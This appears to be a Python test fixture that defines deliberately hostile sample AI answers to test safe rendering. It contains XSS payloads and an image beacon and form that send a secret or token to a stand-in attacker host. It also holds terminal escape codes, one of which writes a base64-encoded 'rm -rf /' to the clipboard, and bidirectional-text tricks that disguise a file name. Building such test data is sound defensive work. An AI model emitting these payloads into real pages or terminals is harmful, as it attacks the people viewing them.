"""Output that would do harm where a reader takes it for more than text."""

from .sample_answers import Answer, Calling, Saying, Thinking

MODEL = "gpt-5.5<script>alert('model')</script>"
USER_AGENT = b"<img src=x onerror=alert('agent')>"

MARKUP = """\
Here is what you asked for: <script>alert(1)</script>
<img src="http://attacker.invalid/pixel.png" onerror="alert(2)"> <svg onload=alert(3)>
</pre></code></textarea></title><iframe src="javascript:alert(4)"></iframe>
[a link](javascript:alert(5)) ![an image](http://attacker.invalid/beacon.png?q=secret)
<style>body { display: none }</style> <base href="http://attacker.invalid/">
<form action="http://attacker.invalid/"><input name="token" autofocus onfocus="alert(6)"></form>
{{ 7 * 7 }} {% raw %} ${alert(7)} &lt;b&gt; &#60;script&#62; --> ]]> ' onmouseover='alert(8)"""

TERMINAL = (
    "Plain \x1b[31mred\x1b[0m, \x1b]0;a title\x07, \x1b[2J\x1b[H cleared, \x9b5m C1,"
    " \x1b]8;;http://attacker.invalid\x1b\\a link\x1b]8;;\x1b\\, \x1b]52;c;cm0gLXJmIC8=\x07 done,"
    "\rover the beginning, back\b\b\b\bspace, NUL \x00 here, DEL \x7f there."
)

BIDI = (
    "Run \u202egpj.exe\u202c now; if access_level != \u2066\u202euser\u2069\u2066 then;"
    " a\u200bzero\u200bwidth\ufeff word; Z\u0351\u036b\u0343\u036a\u0302"
    "\u036b\u033d\u034f\u0334\u0319 stacked; line\u2028separator, para\u2029graph; \ufffe\uffff"
)

MEGABYTE = "A line without an end: " + "x" * 1_000_000

SCRIPTS = """\
العربية: تم شحن طلبك رقم 4711 اليوم.
עברית: ההזמנה שלך נשלחה היום.
中文: 您的订单今天已发货。日本語: ご注文は本日発送されました。한국어: 주문이 발송되었습니다.
ไทย: จัดส่งแล้ว · हिन्दी: भेज दिया गया · emoji: 📦🚚 👩🏽‍🚀 👨‍👩‍👧‍👦 🇺🇳 ✅"""

ANSWERS = (
    Answer(
        name="hostile markup",
        parts=[
            Thinking("<b>bold</b> <script>alert('thought')</script>"),
            Saying(MARKUP),
            Calling("<script>alert('tool')</script>", {"</script><script>alert(9)": MARKUP}),
        ],
        fields={"model": MODEL},
    ),
    Answer(name="hostile terminal", parts=[Saying(TERMINAL)], fields={"model": MODEL}),
    Answer(name="hostile bidi", parts=[Saying(BIDI)], fields={"model": MODEL}),
    Answer(name="hostile megabyte", parts=[Saying(MEGABYTE)], fields={"model": MODEL}),
    Answer(name="hostile scripts", parts=[Saying(SCRIPTS)], fields={"model": MODEL}),
)

LONE_SURROGATE_BODY = (
    b'{"model": "gpt-5.5", "stream": true, "input": "half a pair: \\ud83d, a NUL: \\u0000"}'
)
